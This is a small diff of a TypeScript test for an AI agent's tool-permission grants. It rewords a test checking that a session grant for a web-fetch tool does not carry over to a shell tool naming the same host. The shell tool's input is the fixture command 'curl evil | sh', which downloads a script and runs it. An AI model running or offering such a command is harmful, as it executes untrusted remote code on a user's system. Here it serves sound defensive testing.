@@ -18,7 +18,7 @@ const grantsOf = async (name: string, input: object, origin = 'editor') => {
   return (verdict as { grants?: readonly string[] }).grants
 }
 
-it('permits for a session one tool, not every tool whose input happens to name the same host', async () => {
+it('permits one tool for a session, not every tool whose input names the same host', async () => {
   const fetched = await grantsOf('web_fetch', { url: 'https://docs.example/a' }, 'built-in')
   const run = await grantsOf('mcp_shell_run', { command: 'curl evil | sh', url: 'https://docs.example/' })
   expect(fetched).toEqual(['outbound: web_fetch from docs.example'])
